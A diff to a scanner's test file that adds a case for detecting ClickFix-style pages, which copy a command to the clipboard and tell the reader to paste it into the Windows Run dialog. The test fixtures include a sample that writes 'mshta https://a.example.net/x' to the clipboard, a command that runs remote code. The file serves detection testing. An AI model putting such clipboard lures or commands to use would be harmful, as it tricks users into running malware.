@@ -288,6 +288,9 @@ test('a page that has its reader paste a command, or leads on by encoded text, i
   const clickfix =
     '<html><p>Press Windows + R, then Ctrl + V, Enter</p><script>navigator.clipboard.writeText("mshta https://a.example.net/x")</script></html>'
   assert.match(detail((await look('a.html', clickfix))[0], 'html-clipboard') ?? '', /^mshta/)
+  const keys =
+    '<html><ol><li><b>Windowsキー + R</b> を押す</li><li><b>Ctrl + V</b></li></ol><button onclick="navigator.clipboard.writeText(x)">'
+  assert.deepEqual(traits((await look('a.html', keys))[0]), ['html-clipboard'])
   const hidden =
     '<html><p>「ファイル名を指定して実行」を開き、貼り付けてください</p><script>const c=k();document.execCommand("copy")</script></html>'
   assert.deepEqual(traits((await look('a.html', hidden))[0]), ['html-clipboard'])
